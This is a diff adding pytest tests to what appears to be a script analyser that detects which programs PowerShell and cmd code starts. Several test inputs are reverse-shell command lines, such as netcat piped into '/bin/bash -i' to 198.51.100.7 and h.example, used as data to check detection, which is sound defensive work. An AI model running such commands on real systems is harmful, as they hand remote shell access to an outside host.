@@ -1,6 +1,7 @@
 """PowerShell: plain and disguised."""
 
 import base64
+import time
 
 import pytest
 
@@ -167,3 +168,34 @@ def test_nesting_of_encoded_code_is_bounded():
     found = analyse("/a.ps1", code.encode(), language="powershell")
     assert found.script.truncated
     assert [a.object for a in found.actions if a.action == "starts"] == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "& /bin/bash -i", "&/bin/bash -i", "/bin/bash -i", "$c | /bin/bash -i", "if ($c) { /bin/bash -i }",
+        'cmd /c "type C:\\a.txt | /bin/bash -i"', "cmd.exe /d /c '/bin/bash -i'", 'cmd /c "nc h.example 443 | /bin/bash -i"',
+    ],
+)  # fmt: skip
+def test_a_bare_unix_path_is_a_program(text):
+    assert ("starts", "/bin/bash", None) in told(text)
+
+
+def test_every_stage_of_a_pipe_inside_cmd():
+    found = told('cmd /c "nc 198.51.100.7 443 | /bin/bash -i | nc 198.51.100.7 444"')
+    assert found == [
+        ("starts", "nc", "198.51.100.7 443"), ("starts", "/bin/bash", None), ("starts", "nc", "198.51.100.7 444"),
+    ]  # fmt: skip
+
+
+def test_paths_in_strings_and_comments_are_no_programs():
+    text = "# | /bin/bash -i\n<#\n/bin/bash -i\n#>\n$t = @'\n/bin/bash -i\n'@\n$u = 'a;/bin/sh b'\n& /opt/k/o -d\n"
+    assert told(text) == [("starts", "/opt/k/o", None)]
+    assert rows(text)[0].line == 9
+
+
+@pytest.mark.parametrize("piece", ["@'x", '@"x', "<#", "'", '"`', "| " * 30, "|/a/b", "/a" * 30, "& & "])
+def test_many_odd_heads_are_read_in_bounded_time(piece):
+    started = time.process_time()
+    rows("& /bin/bash -i\n" + piece * (20_000 // len(piece)))
+    assert time.process_time() - started < 3
